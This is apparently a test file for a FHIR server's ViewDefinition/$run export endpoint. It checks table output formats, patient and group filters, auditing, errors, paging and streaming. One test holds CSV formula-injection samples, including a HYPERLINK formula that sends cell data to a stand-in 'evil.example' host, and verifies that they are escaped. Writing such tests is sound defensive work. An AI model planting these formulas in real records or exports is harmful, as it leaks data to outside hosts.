/** Views over the record, as an analyst's tool asks for them. */
import assert from 'node:assert/strict'
import { before, describe, it } from 'node:test'
import { testWorld } from '#checks/test-world.ts'
import type { World } from '#kernel/world.ts'
import { auditOf } from '../audit/accesses.ts'
import { type FhirClient, fhirClient } from '../trial/fhir-client.ts'
import { observation, patient, sandbox, store } from '../trial/people.ts'

const view = {
  resourceType: 'ViewDefinition',
  resource: 'Observation',
  select: [
    {
      column: [
        { name: 'patient', path: 'subject.getReferenceKey(Patient)' },
        { name: 'value', path: 'value.ofType(Quantity).value', type: 'decimal' },
        { name: 'word', path: 'code.text' },
      ],
    },
  ],
}

const parametersOf = (...parameter: object[]) => ({ resourceType: 'Parameters', parameter })
const run = (...more: object[]) => parametersOf({ name: 'viewResource', resource: view }, ...more)

describe('ViewDefinition/$run', () => {
  let world: World
  let client: FhirClient
  const people: string[] = []
  before(async () => {
    world = await testWorld('empty')
    client = await fhirClient(world)
    for (const value of [71, 72]) {
      const { id } = await store(world, patient())
      people.push(id)
      for (const text of ['Tętno', 'Tętno, "spoczynkowe"'])
        await store(world, observation(id, { code: { text }, valueQuantity: { value } }))
    }
  })

  const send = (body: unknown, query = '', headers = {}) =>
    client.send('POST', `/$viewdefinition-run${query}`, body, headers)
  const rowsOf = async (body: unknown) => JSON.parse((await send(body, '?_format=json')).text)

  it('lets no spreadsheet run what somebody wrote into a record', async () => {
    const formulas = [
      '=HYPERLINK("https://evil.example?"&A1)',
      '+1+1',
      '-2+3',
      '@SUM(A1)',
      '\t=1',
      "'=1",
      'a=1',
    ]
    const resources = formulas.map((text) =>
      observation('x', { code: { text }, valueQuantity: { value: -7 } }),
    )
    const asked = parametersOf(
      { name: 'viewResource', resource: { ...view, select: [{ column: view.select[0]?.column.slice(1) }] } },
      ...resources.map((resource) => ({ name: 'resource', resource })),
    )
    const csv = await send(asked, '?_format=csv')
    const [, ...rows] = csv.text.trimEnd().split('\r\n')
    assert.deepEqual(rows, [
      `-7,"'=HYPERLINK(""https://evil.example?""&A1)"`,
      `-7,'+1+1`,
      `-7,'-2+3`,
      `-7,'@SUM(A1)`,
      `-7,'\t=1`,
      `-7,'=1`,
      '-7,a=1',
    ])
    assert.equal(csv.headers.get('content-disposition'), 'attachment; filename="view.csv"')
    const kept = await send(asked, '', { accept: 'text/csv; formulas=kept' })
    assert.equal(kept.text.split('\r\n')[2], '-7,+1+1')
    assert.equal(JSON.parse((await send(asked, '?_format=json')).text)[1].word, '+1+1')
  })

  it('makes a table of the record, in the form that is wanted', async () => {
    const [anna, jan] = people
    const json = await send(run(), '?_format=json')
    assert.deepEqual(
      [json.status, json.headers.get('content-type')],
      [200, 'application/json; charset=utf-8'],
    )
    assert.deepEqual(JSON.parse(json.text)[0], { patient: `Patient/${anna}`, value: 71, word: 'Tętno' })
    const lines = await fetch(`${client.base}/$viewdefinition-run`, {
      method: 'POST',
      body: JSON.stringify(run()),
      headers: { authorization: 'Bearer sandbox', 'content-type': 'application/fhir+json' },
    })
    assert.equal(lines.headers.get('content-type'), 'application/x-ndjson; charset=utf-8')
    const text = (await lines.text()).trimEnd()
    assert.deepEqual(
      text.split('\n').map((line) => JSON.parse(line)),
      JSON.parse(json.text),
    )
    const csv = await send(run(), '', { accept: 'text/csv' })
    assert.equal(csv.headers.get('content-type'), 'text/csv; charset=utf-8; header=present')
    assert.equal(csv.text.split('\r\n')[0], 'patient,value,word')
    assert.equal(csv.text.split('\r\n')[4], `Patient/${jan},72,"Tętno, ""spoczynkowe"""`)
    const bare = await send(
      run({ name: 'header', valueBoolean: false }, { name: '_limit', valueInteger: 1 }),
      '?_format=csv',
    )
    assert.equal(bare.text, `Patient/${anna},71,Tętno\r\n`)
    const same = await client.send('POST', '/ViewDefinition/$run?_format=json', run())
    assert.equal(same.text, json.text)
    assert.equal((await send(view, '?_format=json')).text, json.text)
  })

  it('keeps to patients, groups and the time since', async () => {
    const [anna = '', jan = ''] = people
    const of = (id: string) => ({ name: 'patient', valueReference: { reference: `Patient/${id}` } })
    assert.deepEqual(
      (await rowsOf(run(of(jan)))).map(({ value }: { value: number }) => value),
      [72, 72],
    )
    const member = [
      { entity: { reference: `Patient/${anna}` } },
      { entity: { reference: `Patient/${jan}` }, inactive: true },
    ]
    const group = await store(world, { resourceType: 'Group', type: 'person', actual: true, member })
    const ofGroup = { name: 'group', valueReference: { reference: `Group/${group.id}` } }
    assert.deepEqual(
      (await rowsOf(run(ofGroup))).map(({ value }: { value: number }) => value),
      [71, 71],
    )
    assert.deepEqual(await rowsOf(run(ofGroup, of(jan))), [])
    assert.deepEqual(await rowsOf(run({ name: '_since', valueInstant: '2099-01-01T00:00:00Z' })), [])
    assert.equal((await send(run(of('nobody')))).status, 404)
    assert.equal(
      (await send(run({ ...ofGroup, valueReference: { reference: 'Group/nothing' } }))).status,
      404,
    )
  })

  it('takes resources that are sent, and views that are stored', async () => {
    const sent = run({ name: 'resource', resource: observation('x', { valueQuantity: { value: 5 } }) })
    assert.deepEqual(await rowsOf(sent), [{ patient: 'Patient/x', value: 5, word: 'Tętno' }])
    const data = Buffer.from(JSON.stringify(view)).toString('base64')
    const library = await store(world, {
      resourceType: 'Library',
      status: 'active',
      type: { text: 'view' },
      content: [{ contentType: 'application/json', data }],
    })
    const stored = await client.send(
      'GET',
      `/$viewdefinition-run?_format=json&viewReference=Library/${library.id}`,
    )
    assert.equal(JSON.parse(stored.text).length, 4)
  })

  it('lets those who are in it know', async () => {
    const [anna = ''] = people
    const seen = async () => (await auditOf(sandbox(world), anna, { count: 100 })).length
    const earlier = await seen()
    await rowsOf(run())
    assert.equal(await seen(), earlier + 1)
  })

  it('refuses what it does not understand, before it answers', async () => {
    const refused = async (body: unknown, status: number, query = '') => {
      const answer = await send(body, query)
      assert.deepEqual(
        [answer.status, answer.json?.resourceType],
        [status, 'OperationOutcome'],
        JSON.stringify(body),
      )
      return answer.json.issue[0]
    }
    await refused(run(), 400, '?_format=parquet')
    await refused(run(), 400, '?shoe=42')
    await refused(parametersOf(), 400)
    await refused(run({ name: 'viewReference', valueString: 'Library/x' }), 400)
    await refused(run({ name: '_limit', valueInteger: -1 }), 400)
    await refused(run({ name: '_since', valueString: 'yesterday' }), 400)
    await refused(run({ name: 'header', valueString: 'maybe' }), 400)
    await refused(run({ name: 'source', valueString: 's3://bucket' }), 501)
    await refused(
      parametersOf({ name: 'viewReference', valueString: 'https://other.org/ViewDefinition/1' }),
      400,
    )
    const wrong = parametersOf({
      name: 'viewResource',
      resource: { ...view, select: [{ column: [{ name: 'a', path: 'nmae' }] }] },
    })
    assert.deepEqual((await refused(wrong, 422)).expression, ['ViewDefinition.select[0].column[0].path'])
    const many = parametersOf({
      name: 'viewResource',
      resource: { ...view, select: [{ column: [{ name: 'a', path: 'code.coding.code | code.text' }] }] },
    })
    const two = { resourceType: 'Observation', code: { text: 'a', coding: [{ code: 'b' }] } }
    await refused({ ...many, parameter: [...many.parameter, { name: 'resource', resource: two }] }, 422)
    assert.equal((await client.send('GET', '/Observation?_format=csv')).status, 406)
  })

  it('reads page after page of many', async () => {
    const before = (await rowsOf(run())).length
    const entry = Array.from({ length: 450 }, (_, index) => ({
      resource: observation(people[0] ?? '', { valueQuantity: { value: index } }),
      request: { method: 'POST', url: 'Observation' },
    }))
    assert.equal(
      (await client.send('POST', '/', { resourceType: 'Bundle', type: 'transaction', entry })).status,
      200,
    )
    const rows = await rowsOf(run())
    assert.equal(rows.length, before + 450)
    assert.equal(new Set(rows.map(({ value }: { value: number }) => value)).size, 450)
  })

  it('streams a large table, to a client that stays and to one that leaves', async () => {
    const column = [{ name: 'word', path: `'${'x'.repeat(50)}'` }]
    const wide = { ...view, select: [{ unionAll: Array.from({ length: 100 }, () => ({ column })) }] }
    const body = JSON.stringify(parametersOf({ name: 'viewResource', resource: wide }))
    const ask = () =>
      fetch(`${client.base}/$viewdefinition-run?_format=json`, {
        method: 'POST',
        body,
        headers: { authorization: 'Bearer sandbox', 'content-type': 'application/fhir+json' },
      })
    const whole = await ask()
    assert.equal(whole.headers.get('transfer-encoding'), 'chunked')
    assert.ok(((await whole.json()) as unknown[]).length > 40_000)
    const left = await ask()
    await left.body?.getReader().cancel()
    assert.equal((await send(run({ name: '_limit', valueInteger: 1 }))).status, 200)
  })
})
